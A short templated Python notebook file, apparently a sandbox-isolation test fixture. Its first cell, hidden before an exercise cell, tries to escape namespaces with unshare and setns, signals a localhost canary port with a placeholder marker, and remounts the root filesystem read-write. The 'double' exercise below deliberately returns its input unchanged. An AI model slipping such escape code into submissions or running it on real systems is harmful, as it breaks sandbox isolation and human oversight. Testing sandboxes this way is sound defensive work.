# %%
import ctypes
import os
import socket
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x40000000, 0x00020000):
    if os.fork() == 0:
        result = libc.unshare(flag)
        for pid in (1, os.getppid()):
            try:
                libc.setns(os.open(f"/proc/{pid}/ns/net", os.O_RDONLY), 0)
            except OSError:
                pass
        try:
            with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as door:
                door.sendall(b"@MARK@")
        except OSError:
            pass
        os._exit(0)
    os.wait()
subprocess.run(["sh", "-c", "mount -o remount,rw / ; mount --bind / /mnt"], capture_output=True)

# %% exercise="double"
def double(x):
    return x
